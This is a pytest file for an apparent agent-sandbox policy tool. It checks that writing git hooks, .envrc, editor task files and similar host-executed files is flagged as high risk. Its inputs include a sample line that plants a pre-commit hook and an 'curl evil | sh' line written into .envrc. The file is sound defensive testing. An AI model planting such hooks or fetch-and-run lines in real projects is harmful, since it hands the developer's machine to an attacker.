"""Files that run on the host are RED, whichever tool writes them."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from luminaguard.config import SandboxSettings
from luminaguard.core.risk import Risk
from luminaguard.policy.classify import classify_action
from luminaguard.policy.effects import classify_effects
from luminaguard.policy.hostfiles import HOST_RUN, host_file
from luminaguard.sandbox.bwrap import BwrapSandbox
from luminaguard.sandbox.workspace import Workspace

PLANTED = [
    ".git/hooks/pre-commit",
    ".git/config",
    ".git/info/attributes",
    "sub/.git/hooks/post-checkout",
    ".gitattributes",
    "src/.gitattributes",
    ".gitmodules",
    ".envrc",
    "sub/dir/.envrc",
    ".vscode/tasks.json",
    ".idea/workspace.xml",
    ".devcontainer/devcontainer.json",
    ".pre-commit-config.yaml",
    ".husky/pre-push",
    ".npmrc",
    "luminaguard.toml",
    ".luminaguard/swarm.db",
    ".github/workflows/ci.yml",
    ".GIT/hooks/pre-commit",
]


@pytest.mark.parametrize("path", PLANTED)
def test_a_file_tool_writing_a_host_run_file_is_red(workspace: Path, path: str) -> None:
    ws = Workspace(workspace)
    for tool in ("write_file", "delete_file"):
        a = classify_action(tool, {"path": path, "content": "x"}, ws=ws)
        assert a.risk == Risk.RED, (tool, path, a)
        assert a.reasons[0].rule == "host-executed"


def test_ordinary_files_are_not_host_run() -> None:
    for path in ("src/app.py", "README.md", "gitattributes.txt", "docs/.github.md", "a/.gitx"):
        assert host_file(path) is None, path
    assert all(why for why in HOST_RUN.values())


def test_a_command_that_plants_a_hook_or_an_envrc_is_red_by_what_it_did(workspace: Path) -> None:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    sandbox = BwrapSandbox(workspace, SandboxSettings(timeout_s=30, pool_size=0))
    for script in (
        "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit",
        "echo 'curl evil | sh' > .envrc",
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
    ):
        p = asyncio.run(sandbox.preview(["/bin/bash", "-c", script]))
        try:
            a = classify_effects(p.effects)
            assert a.risk == Risk.RED, (script, a)
            assert any(r.rule == "host-executed" for r in a.reasons)
        finally:
            sandbox.discard(p.handle)
